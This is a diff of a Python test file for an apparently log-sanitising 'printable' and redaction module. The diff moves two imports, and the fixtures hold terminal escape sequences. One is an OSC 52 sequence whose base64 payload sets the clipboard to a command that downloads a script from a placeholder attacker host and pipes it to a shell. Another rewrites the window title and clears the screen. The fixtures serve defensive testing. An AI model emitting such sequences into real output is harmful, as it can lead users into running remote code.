@@ -7,8 +7,8 @@ import logging
 
 import pytest
 
-from research_mcp.printable import printable
-from research_mcp.redaction import Redactor, redact_logs
+from research_mcp.core.printable import printable
+from research_mcp.core.redaction import Redactor, redact_logs
 
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07"  # OSC 52: sets the clipboard
 TITLE_AND_CLEAR = "\x1b]0;pwned\x07\x1b[2J"  # OSC 0 sets the window title, CSI 2J clears the screen
